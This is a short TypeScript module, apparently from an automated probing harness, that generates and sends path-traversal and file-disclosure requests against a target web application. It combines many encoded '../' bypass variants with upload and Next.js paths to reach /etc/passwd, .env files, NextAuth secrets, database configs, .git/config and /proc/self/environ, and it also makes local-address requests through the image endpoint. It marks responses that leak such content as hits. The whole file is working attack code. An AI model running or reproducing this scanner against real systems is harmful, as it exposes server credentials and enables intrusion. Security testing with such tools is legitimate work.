import type { Attempt, Target } from "./target.ts";
import { call, some } from "./target.ts";

const UP = [
  "../",
  "%2e%2e/",
  "..%2f",
  "%2e%2e%2f",
  "..%5c",
  "..\\",
  "%252e%252e%252f",
  "..%252f",
  "%c0%ae%c0%ae/",
  "..%c0%af",
  "....//",
  "..;/",
  "%uff0e%uff0e/",
  ".%00./",
];
const FROM = ["/uploads/", "/uploads/00/", "/_next/static/", "/_next/", "/images/", "/api/", "/product/", "/"];
const FILES = ["etc/passwd", "nextauth-secret", "package.json", "postgres/postgresql.conf", ".env"];
const PLAIN = [
  "/.env",
  "/.git/config",
  "/package.json",
  "/prisma/schema.prisma",
  "/nextauth-secret",
  "/data/nextauth-secret",
  "/uploads/",
  "/trash/",
  "/.next/BUILD_ID",
  "/_next/image?url=%2fetc%2fpasswd&w=640&q=75",
  "/_next/image?url=http%3A%2F%2F127.0.0.1%2F&w=640&q=75",
  "/server.js",
  "/proc/self/environ",
];

/** Ways out of the folder of uploads, and of every other. */
export async function* traversal(target: Target): AsyncGenerator<Attempt> {
  const ways = some(target, FROM, 4).flatMap((from) =>
    some(target, UP, 6).flatMap((up, place) => [3, 9].map((depth) => from + up.repeat(depth) + FILES[(place + depth) % FILES.length])),
  );
  for (const path of [...ways, ...PLAIN]) {
    const { status, body } = await call(target, "GET", path);
    const isThere = status === 200 || /root:.*:0:0|"dependencies"|DATABASE_URL|listen_addresses/.test(body) || body.includes(target.secret);
    yield { what: `GET ${path}`, ...(isThere && { hit: `answered ${status}` }) };
  }
}
